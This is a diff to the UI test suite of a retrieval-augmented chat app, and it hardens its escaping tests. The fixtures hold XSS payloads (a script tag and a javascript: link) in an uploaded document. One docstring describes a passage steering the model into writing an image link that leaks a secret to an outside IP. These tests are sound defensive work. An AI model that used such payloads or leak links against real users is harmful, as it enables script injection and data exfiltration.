@@ -6,6 +6,7 @@ for all tests here. Every test gets its own data dir through HOPRAG_DATA_DIR.
 
 from __future__ import annotations
 
+import html
 import re
 import socket
 import threading
@@ -40,6 +41,11 @@ def ui_env(tmp_path, monkeypatch):
 def plain(markdown: str) -> str:
     """Undo Markdown backslash escapes (the app escapes every document/user string)."""
     return re.sub(r"\\(.)", r"\1", markdown)
+
+
+def text_of(fragment: str) -> str:
+    """The text a browser shows for the app's HTML (answers and passages are safe HTML blocks)."""
+    return html.unescape(re.sub(r"<br>", "\n", re.sub(r"<(?!br>)[^>]*>", "", fragment)))
 
 
 def start() -> AppTest:
@@ -102,7 +108,7 @@ def test_sample_question_gets_a_cited_answer(ui_env):
     assert plain(labels[0]).startswith(f"[{answer.citations[0].number}] ")
     assert "How this answer was found" in labels
     # the passage text of the citation is shown (escaped) inside its expander
-    assert any(answer.citations[0].text[:40] in plain(m.value) for m in assistant.expander[0].markdown)
+    assert any(answer.citations[0].text[:40] in text_of(m.value) for m in assistant.expander[0].markdown)
     assert any(m.label == "First token" for m in assistant.get("metric"))
     # history survives a rerun and a new chat clears it
     at.run()
@@ -217,7 +223,7 @@ def test_server_unreachable_gives_retrieval_only_answer(ui_env):
     assert answer.text == "" and answer.error
     assistant = [cm for cm in at.chat_message if cm.name == "assistant"][-1]
     assert plain(assistant.expander[0].label).startswith("[1] notes.md")
-    assert "BLUE-42" in plain(assistant.expander[0].markdown[0].value)
+    assert "BLUE-42" in text_of(assistant.expander[0].markdown[0].value)
 
 
 def test_trace_shows_each_step_with_hits_and_timings(ui_env):
@@ -231,7 +237,7 @@ def test_trace_shows_each_step_with_hits_and_timings(ui_env):
     assistant = [cm for cm in at.chat_message if cm.name == "assistant"][-1]
     trace = next(e for e in assistant.expander if e.label == "How this answer was found")
     steps = [plain(m.value).split(" · ")[0] for m in trace.markdown if m.value.startswith("**")]
-    assert steps == ["**1. dense**", "**2. bm25**", "**3. fuse**", "**4. generate**"]
+    assert steps == ["**1. dense**", "**2. bm25**", "**3. fuse**", "**4. evidence**", "**5. generate**"]
     assert {m.label for m in trace.get("metric")} == {"First token", "Total", "Prompt tokens", "Cached"}
     assert any(plain(c.value).startswith("prompt tokens: ") for c in trace.caption)
     first = trace.dataframe[0].value
@@ -251,22 +257,25 @@ def test_sessions_do_not_share_chats(ui_env):
     assert first.session_state.session_id != second.session_state.session_id
 
 
-def test_passage_text_is_escaped_not_rendered(ui_env):
+def test_passage_text_is_shown_literally(ui_env):
+    """A document's markup is shown as text in its source panel: never run, never rendered as Markdown."""
     at = start()
     evil = b"# Trap\n\nClick <script>alert(1)</script> and **bold** [link](javascript:alert(1)) now.\n"
     upload(at, [("trap.md", evil, "text/markdown")])
     use_unreachable_server(at)
     at.chat_input(key="question").set_value("What should I click?").run()
     shown = [cm for cm in at.chat_message if cm.name == "assistant"][-1].expander[0].markdown[0].value
-    assert "\\<script\\>" in shown and "\\*\\*bold\\*\\*" in shown and "\\[link\\]" in shown
-    assert not at.get("html")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown and "**bold**" in shown
+    assert "[link](javascript&#58;alert(1))" in shown
+    assert "Click <script>alert(1)</script> and **bold** [link](javascript:alert(1)) now." in text_of(shown)
+    assert not re.search(r"<(script|a|img)\b", shown) and not at.get("html")
 
 
-def test_model_output_markup_is_escaped(ui_env, monkeypatch):
-    """A passage can steer the model into writing an image link that would leak data: show it as text."""
+def test_model_output_markup_is_made_safe(ui_env, monkeypatch):
+    """A passage can steer the model into writing an image link that would leak data: it is never fetched."""
     from rag.types import Answer
 
-    evil = "See ![x](http://203.0.113.1/leak?q=secret) <b>now</b> [1]"
+    evil = "See ![x](http://203.0.113.1/leak?q=secret) <b>now</b> **really** [1]"
 
     def fake_stream(self, question, history=None, **kwargs):
         yield evil
@@ -277,9 +286,8 @@ def test_model_output_markup_is_escaped(ui_env, monkeypatch):
     monkeypatch.setattr(RAG, "stream", fake_stream)
     at.chat_input(key="question").set_value("What is the launch code?").run()
     assert not at.exception, [e.value for e in at.exception]
-    shown = [m.value for m in [cm for cm in at.chat_message if cm.name == "assistant"][-1].markdown]
-    assert any("\\!\\[x\\]\\(http" in v for v in shown), shown
-    assert not any("![x](http" in v for v in shown)
-    at.run()  # the rerun draws history through show_answer: escaped there too
-    shown = [m.value for m in [cm for cm in at.chat_message if cm.name == "assistant"][-1].markdown]
-    assert not any("![x](http" in v for v in shown)
+    for _ in range(2):  # the streamed turn, then the rerun that draws the history
+        shown = [m.value for m in [cm for cm in at.chat_message if cm.name == "assistant"][-1].markdown][0]
+        assert "[image: x]" in shown and "203.0.113.1" not in shown and "<img" not in shown
+        assert "&lt;b&gt;now&lt;/b&gt;" in shown and "<strong>really</strong>" in shown
+        at.run()
